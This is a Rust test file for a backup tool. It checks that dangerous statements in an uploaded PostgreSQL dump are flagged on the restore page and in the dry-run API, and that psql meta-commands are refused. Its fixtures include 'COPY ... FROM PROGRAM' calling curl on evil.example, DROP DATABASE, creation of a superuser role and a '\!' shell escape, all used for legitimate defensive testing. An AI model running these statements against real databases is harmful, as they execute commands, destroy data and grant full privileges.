//! What was found in a file from elsewhere is told where its restore is decided: on
//! the page of the plan, and in the API's dry run.

use serde_json::{Value, json};

use super::{Ask, TestSite};
use crate::{
    domain::{id::BackupId, kind::Kind, outside::OutsideReport},
    i18n::{Catalogue, Lang},
};

/// What a dump says of itself, before what somebody added to it.
const HEAD: &str = "--\n-- PostgreSQL database dump\n--\n\n-- Dumped from database version 15.18\n\
    -- Dumped by pg_dump version 17.5\n\nCREATE TABLE a (b int);\nALTER TABLE a OWNER TO app_owner;\n";
const TAIL: &str = "\n--\n-- PostgreSQL database dump complete\n--\n\n";

/// What the engine itself finds in a dump with this in it.
fn found_in(site: &TestSite, sql: &str) -> OutsideReport {
    let dump = format!("{HEAD}{sql}{TAIL}");
    let engine = site.site.world.engines.get(&Kind::of("postgres")).unwrap();
    let mut inspector = engine.recognise("shop.sql", dump.as_bytes()).expect("a dump");
    inspector.see(dump.as_bytes()).unwrap();
    let report = inspector.finish().unwrap().report;
    OutsideReport { file: "shop.sql".to_owned(), ..report }
}

/// An uploaded backup whose manifest carries this report.
async fn brought(site: &TestSite, report: &OutsideReport) -> BackupId {
    let db = &site.site.world.db;
    let file = std::fs::read(site.folder().join("shop.db")).unwrap();
    let head = "--edge\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shop.db\"\r\n\r\n";
    let body = [head.as_bytes(), &file, b"\r\n--edge--\r\n"].concat();
    let ask = Ask::post(format!("/api/resources/{}/backups/upload", site.shop.id));
    let ask = ask.token_of(site.person("alpha-owner")).body("multipart/form-data; boundary=edge", body);
    let taken = site.send(ask).await.json();
    let backup = site.run(taken["id"].as_str().unwrap()).await.backup.unwrap();
    let path = site.folder().join("store").join(db.backup(&backup).await.unwrap().path);
    let path = path.join("manifest.json");
    let mut manifest: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let mut report = serde_json::to_value(report).unwrap();
    report["item"] = manifest["parts"][0]["facts"]["outside"]["item"].clone();
    manifest["parts"][0]["facts"]["outside"] = report;
    std::fs::write(&path, serde_json::to_vec(&manifest).unwrap()).unwrap();
    backup
}

/// A sentence as it stands in a page, without what differs there by escaping.
fn plain(text: &str) -> String {
    text.chars().filter(|c| c.is_alphanumeric()).collect()
}

/// The same of a page.
fn unescaped(page: &str) -> String {
    let mut page = page.to_owned();
    for (entity, c) in [("&#34;", "\""), ("&#38;", "&"), ("&#39;", "'"), ("&#60;", "<"), ("&#62;", ">")] {
        page = page.replace(entity, c);
    }
    plain(&page)
}

#[actix_web::test]
async fn what_a_person_should_look_at_is_in_the_plan() {
    let site = TestSite::new().await;
    let report = found_in(
        &site,
        "COPY a FROM PROGRAM 'curl evil.example';\nDROP DATABASE postgres;\nALTER SYSTEM SET work_mem = '8MB';\n\
         CREATE ROLE evil SUPERUSER LOGIN;\nCREATE EXTENSION hstore;\n",
    );
    let ids: Vec<_> = report.messages().iter().map(|msg| msg.id.to_string()).collect();
    for id in ["danger-copy-program", "danger-drop-database", "danger-system", "danger-superuser", "format"] {
        assert!(ids.contains(&format!("outside-{id}")), "{id}: {ids:?}");
    }
    for id in ["outside-versions", "outside-roles", "outside-extensions"] {
        assert!(ids.contains(&id.to_owned()), "{id}: {ids:?}");
    }
    let backup = brought(&site, &report).await;
    let page = format!("/backups/{backup}/restore");
    let api = format!("/api/resources/{}/backups/{backup}/restore?dry_run=true", site.shop.id);
    let owner = site.person("alpha-owner");
    for lang in Lang::ALL {
        let tag = lang.to_string();
        let words = Catalogue::of(lang);
        let shown = site.send(Ask::get(&page).session_of(owner).header("accept-language", &tag)).await;
        let shown = unescaped(&shown.main());
        let dry = site.send(Ask::post(&api).token_of(owner).header("accept-language", &tag)).await;
        assert_eq!(dry.status, 200, "{}", dry.text());
        let dry = dry.json();
        for msg in report.messages() {
            let told = words.text(&msg);
            assert!(shown.contains(&plain(&told)), "{tag}: {told}: {shown}");
            let notice = json!({ "code": msg.id, "text": told });
            assert!(dry["warnings"].as_array().unwrap().contains(&notice), "{notice}: {dry}");
        }
    }
    // The gravest come first: nobody has to look for them below what is harmless.
    let first = found_in(&site, "").messages().remove(0).id;
    let dry = site.send(Ask::post(&api).token_of(owner)).await.json();
    let at = |code: &str| dry["warnings"].as_array().unwrap().iter().position(|w| w["code"] == code);
    assert!(at("outside-danger-copy-program") < at(&first), "{dry}");
}

#[actix_web::test]
async fn what_must_never_run_is_named_and_there_is_no_button() {
    for (sql, excerpt) in [("\\connect postgres\n", "\\connect"), ("\\! id\n", "\\!")] {
        let site = TestSite::new().await;
        let backup = brought(&site, &found_in(&site, sql)).await;
        let page = format!("/backups/{backup}/restore");
        let shown = site.open("alpha-owner", &page).await.main();
        assert!(shown.contains("role=\"alert\"") && shown.contains(excerpt), "{shown}");
        assert!(!shown.contains("data-confirm-submit") && !shown.contains("name=\"confirm\""), "{shown}");
        let before = site.held().await;
        let fields = [("asked", "1"), ("safety", "1"), ("target", "same"), ("confirm", "shop")];
        assert_eq!(site.post("alpha-owner", &page, &fields).await.status, 422);
        let owner = site.person("alpha-owner");
        for query in ["?dry_run=true", ""] {
            let at = format!("/api/resources/{}/backups/{backup}/restore{query}", site.shop.id);
            let reply = site.send(Ask::post(at).token_of(owner).json(&json!({ "confirm": "shop" }))).await;
            assert_eq!(reply.problem(), (422, "restore-outside-refused".to_owned()));
            assert!(reply.json()["title"].as_str().unwrap().contains(excerpt), "{}", reply.text());
        }
        assert_eq!(site.held().await, before, "{sql}");
    }
}
